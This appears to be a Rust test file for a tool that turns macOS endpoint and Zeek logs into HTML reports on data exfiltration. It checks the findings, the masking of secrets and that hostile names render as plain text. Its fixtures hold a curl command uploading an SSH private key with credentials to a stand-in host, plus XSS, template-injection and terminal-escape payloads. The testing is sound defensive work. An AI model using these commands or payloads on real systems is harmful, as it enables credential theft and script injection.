//! Pages of findings and hunts: what they tell of the example, and that whatever stands in telemetry stays text.

use std::fs;
use std::io::ErrorKind;
use std::net::TcpListener;
use std::path::{Path, PathBuf};

use crate::browser::{browser, opened};
use crate::example::sha256;
use crate::program::{Said, render, tollgate};

fn page(words: &[&str], inputs: &[&Path]) -> String {
    let said: Said = tollgate().args(words).args(["--format", "html"]).args(inputs).output().unwrap().into();
    assert_eq!(said.code, Some(0), "{}", said.err);
    said.out
}

fn example() -> (PathBuf, String) {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples/fleet-hour");
    (folder.join("logs"), folder.join("hosts.toml").to_str().unwrap().to_owned())
}

/// What a reader sees of a page: its text, one line for each element that has any.
pub fn text(page: &str) -> String {
    let body = page.split("</style>").nth(1).unwrap();
    let parts = body.split('<').filter_map(|part| part.split_once('>')).map(|(_, text)| text.trim());
    let text = parts.filter(|text| !text.is_empty()).collect::<Vec<_>>().join("\n");
    text.replace("&#60;", "<").replace("&#62;", ">").replace("&#34;", "\"").replace("&#39;", "'").replace("&#38;", "&")
}

#[test]
fn the_example_is_told_from_its_story() {
    let (logs, hosts) = example();
    let hunt = page(&["hunt", "--hosts", &hosts], &[&logs]);
    // Three findings, each with a row that links to its section.
    assert_eq!((hunt.matches("href=\"#finding-").count(), hunt.matches("<article id=\"finding-").count()), (3, 3));
    let told = text(&hunt);
    assert!(
        told.contains("Data leaving Macs inside TLS: 3 findings") && told.contains("cannot be seen: which process opened a connection")
    );
    assert!(told.contains(
        "On ana-mbp, zsh (Apple, pid 400) of user 501, or what it started, read login.keychain-db, Cookies and NoteStore.sqlite \
         (browser-credentials, keychain and notes), packed it into out.zip with ditto and sent 3.8 MB with curl to sivvino.example \
         (203.0.113.62:443) inside TLS or QUIC, as a sensor saw. All of it took 25 s 150 ms."
    ));
    // The secret of its command line came from the story.
    let secret = fs::read_to_string(logs.join("bo-mbp/eslogger.ndjson")).unwrap();
    let secret = secret.split("\"--token\",\"").nth(1).unwrap().split('"').next().unwrap().to_owned();
    assert!(secret.len() == 32 && !hunt.contains(&secret[..8]), "{secret}");
    // The same records are the same bytes.
    assert_eq!(page(&["hunt", "--hosts", &hosts], &[&logs]), hunt);
}

#[test]
fn a_finding_has_its_graph_score_and_records() {
    let (logs, hosts) = example();
    let told = text(&page(&["explain", "--hosts", &hosts, "c95d03"], &[&logs]));
    // Tar reads the workbook and packs it, curl reads the archive and sends it: the story of bo-mbp.
    let rows = told.split("The same as a table").nth(1).unwrap().split("Where it went").next().unwrap();
    let edges = [
        "1 2026-10.xlsx (/Users/bo/Documents/Payroll)\n3 tar (pid 530, Apple)\n2\nL1\ntold by the record of the step",
        "3 tar (pid 530, Apple)\n4 p.tgz (/private/tmp)\n1, 3\nL1 L3\ntold by the record of the step",
        "4 p.tgz (/private/tmp)\n5 curl (pid 531, Apple)\n4\nL3\ntold by the record of the step",
        "5 curl (pid 531, Apple)\n6 203.0.113.99 (203.0.113.99:443)\n5\nL1\ntold by the record of the step",
    ];
    for edge in edges {
        assert!(rows.contains(edge), "{edge}: {rows}");
    }
    // 30 + 10 + 10 + 5 + 5 + 10 + 3 + 10 + 5.
    assert!(told.contains("Sum\n88"), "{told}");
    // The flow's own line of Zeek's log, and the hash of it.
    let conn = fs::read(logs.join("zeek/conn.log")).unwrap();
    let line = conn.split(|&byte| byte == b'\n').find(|line| line.windows(4).any(|part| part == b"Cbo5")).unwrap();
    assert!(told.contains(&sha256(line)));
    assert!(told.contains(&String::from_utf8_lossy(line).replace('\t', "\\u{9}")), "{told}");
}

#[test]
fn records_are_shown_with_secrets_masked_and_hashed_as_they_are() {
    let trace = "host mac1\n\
         process zsh pid=400.20 parent=300.10 auid=501 user=501 platform com.apple.zsh /bin/zsh\n\
         10:00:00.000 fork zsh -> 500\n\
         10:00:00.010 exec 500 platform com.apple.curl /usr/bin/curl : curl -u ana:hunter2hunter2 -H \"Authorization: Bearer tr0ub4dor3\" -T /Users/ana/.ssh/id_ed25519 https://sink.example/\n\
         10:00:00.100 read 500 /Users/ana/.ssh/id_ed25519 size=400\n\
         10:00:03.000 exit 500\n";
    let folder = tempfile::tempdir().unwrap();
    render(trace, folder.path());
    let html = page(&["hunt"], &[folder.path()]);
    assert!(!html.contains("hunter2") && !html.contains("tr0ub4dor3"));
    // The egress is declared by the arguments: the record of the execution stands behind it.
    let raw = fs::read_to_string(folder.path().join("mac1/es.ndjson")).unwrap();
    let exec = raw.lines().find(|line| line.contains("hunter2hunter2")).unwrap();
    let told = text(&html);
    let record = told.split(&sha256(exec.as_bytes())).nth(1).expect("the execution is cited");
    assert!(record.contains("\"args\":[\"curl\",\"-u\",\"ana:[redacted len=14 id="), "{record}");
    assert!(told.contains("no network record"), "{told}");
}

#[test]
fn an_empty_hunt_says_how_much_could_have_been_seen() {
    let folder = tempfile::tempdir().unwrap();
    render(
        "host mac1\nprocess zsh pid=400.20 parent=300.10 platform com.apple.zsh /bin/zsh\n10:00:00.000 fork zsh -> 500\n",
        folder.path(),
    );
    let told = text(&page(&["hunt"], &[folder.path()]));
    assert!(told.contains("0 findings") && told.contains("None. That means no more than what could have been seen"));
    assert!(told.contains("cannot be seen: volume, and what encrypts: there are no network rows"), "{told}");
}

/// What somebody may call anything, if it were to pass as more than a name; an image that is fetched asks this port.
fn hostile(port: u16) -> Vec<String> {
    let image = format!("\"><img src=\"http://127.0.0.1:{port}/x\" onerror=\"document.title='owned'\">");
    let texts = [
        "<script>document.title='owned'</script>",
        &image,
        "</title></svg></style><h1>all is well</h1>",
        "javascript:document.title='owned'",
        "</pre></details></td></tr></table><iframe srcdoc=x>",
        "a\u{202e}gpj\u{200b}\u{2066}b",
        "\u{1b}[2J\u{1b}]8;;https://evil.example\u{7}",
        "{{ 7*7 }} &lt;b&gt; &#60;i&#62; ]]> <!-- %}",
    ];
    texts.map(str::to_owned).to_vec()
}

fn quoted(text: &str) -> String {
    let letter = |c: char| match c {
        '"' | '\\' => format!("\\{c}"),
        c if c.is_control() || !c.is_ascii() => format!("\\u{{{:x}}}", u32::from(c)),
        c => c.to_string(),
    };
    format!("\"{}\"", text.chars().map(letter).collect::<String>())
}

/// Thefts in which everything that has a name has a hostile one: Mac, file, archive, program, signer, team, arguments, server.
fn hostile_page(folder: &Path, port: u16) -> (PathBuf, String) {
    let (mut trace, mut hosts) = (String::new(), String::new());
    for (at, text) in (1..).zip(hostile(port)) {
        let name = |end: &str| quoted(&format!("{text}{end}"));
        let file = |folder: &str, end: &str| quoted(&format!("{folder}/{}{end}", text.replace('/', "\u{2044}")));
        let (program, zip) = (file("/private/tmp", ""), file("/private/tmp", ".zip"));
        trace += &format!(
            "host mac{at}\n\
             process zsh pid=400.20 parent=300.10 auid=501 user=501 platform com.apple.zsh /bin/zsh\n\
             10:00:00.000 fork zsh -> 500\n\
             10:00:00.010 exec 500 dev {} {} {program} : {program} {}\n\
             10:00:05.000 read 500 {} size=310000\n\
             10:00:05.010 read 500 /Users/ana/.ssh/id_ed25519 size=400\n\
             10:00:06.000 create 500 {zip}\n\
             10:00:07.000 close 500 {zip} modified size=300000\n\
             10:00:08.100 flow C{at} 10.0.0.{at}:51000 -> 203.0.113.62:443 tcp for 3s out=301000 in=900 service=ssl\n\
             10:00:08.200 tls C{at} sni={} version=TLSv13 established\n",
            name(""),
            name(""),
            name(" word"),
            file("/Users/ana/Documents", ".docx"),
            name(".example")
        );
        let host = serde_json::to_string(&format!("{text} mac")).unwrap();
        hosts += &format!("[[host]]\nname = {host}\naddresses = [\"10.0.0.{at}\"]\npaths = [\"**/mac{at}/**\"]\n");
    }
    let logs = folder.join("logs");
    render(&trace, &logs);
    let map = folder.join("hosts.toml");
    fs::write(&map, hosts).unwrap();
    let html = page(&["hunt", "--hosts", map.to_str().unwrap()], &[&logs]);
    let path = folder.join("hunt.html");
    fs::write(&path, &html).unwrap();
    (path, html)
}

#[test]
fn nothing_of_a_page_runs_or_is_fetched_by_its_text() {
    let folder = tempfile::tempdir().unwrap();
    let (_, html) = hostile_page(folder.path(), 9);
    for part in ["<script", "<img", "<iframe", "<link", "<object", "url(", "@import", "<h1>all"] {
        assert!(!html.contains(part), "{part}");
    }
    // What is hostile stands between tags, never in one; addresses within the page are all that is linked to.
    for tag in html.split('<').skip(1).map(|tag| tag.split('>').next().unwrap()) {
        assert!(!["src=", "onerror", "owned", "javascript"].iter().any(|part| tag.contains(part)), "{tag}");
        assert!(!tag.contains("href=") || tag.starts_with("a href=\"#finding-"), "{tag}");
    }
    let acts = |c: char| (c.is_control() && c != '\n') || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}');
    assert!(!html.contains(acts));
    // Every one is there, as the name of a Mac, in each of the forms in which a name is cut for its place.
    let told = text(&html);
    assert!(told.contains("8 findings"), "{told}");
    for name in hostile(9) {
        let shown: String = name.chars().map(|c| if acts(c) { format!("\\u{{{:x}}}", u32::from(c)) } else { c.to_string() }).collect();
        assert!(told.contains(&format!("{shown} mac")), "{shown}");
        assert!(told.contains(&format!("{shown} word")), "{shown}");
    }
}

#[test]
fn a_browser_shows_what_is_hostile_as_text_and_asks_nobody() {
    let Some(browser) = browser() else { return };
    let folder = tempfile::tempdir().unwrap();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let (path, html) = hostile_page(folder.path(), listener.local_addr().unwrap().port());
    let said = opened(&browser, &path, &["--dump-dom"]);
    assert!(said.out.contains("<title>Hunt: 8 findings</title>"), "{}{}", said.out, said.err);
    for element in ["<script", "<img", "<iframe", "<h1>all is well", "<b>", "<i>"] {
        // What the page has of its own stays.
        assert_eq!(said.out.matches(element).count(), html.matches(element).count(), "{element}");
    }
    for element in ["<svg", "</svg>", "<article", "<details", "<pre"] {
        assert_eq!(said.out.matches(element).count(), html.matches(element).count(), "{element}");
    }
    assert_eq!(listener.accept().map(|_| ()).map_err(|error| error.kind()), Err(ErrorKind::WouldBlock), "somebody was asked for something");
}

#[test]
fn a_browser_can_print_and_draw_pages_of_findings() {
    let Some(browser) = browser() else { return };
    let folder = tempfile::tempdir().unwrap();
    let (logs, hosts) = example();
    for (name, words) in [("hunt", &["hunt", "--hosts", &hosts][..]), ("finding", &["explain", "--hosts", &hosts, "95191b"][..])] {
        let path = folder.path().join(name).with_extension("html");
        fs::write(&path, page(words, &[&logs])).unwrap();
        let (print, picture) = (path.with_extension("pdf"), path.with_extension("png"));
        opened(&browser, &path, &["--no-pdf-header-footer", &format!("--print-to-pdf={}", print.display())]);
        opened(&browser, &path, &["--window-size=400,2000", &format!("--screenshot={}", picture.display())]);
        let (print, picture) = (fs::read(print).unwrap(), fs::read(picture).unwrap());
        assert!(print.starts_with(b"%PDF") && print.len() > 20_000, "{} bytes", print.len());
        // A picture of one colour takes a few kilobytes.
        assert!(picture.starts_with(b"\x89PNG") && picture.len() > 40_000, "{} bytes", picture.len());
    }
}
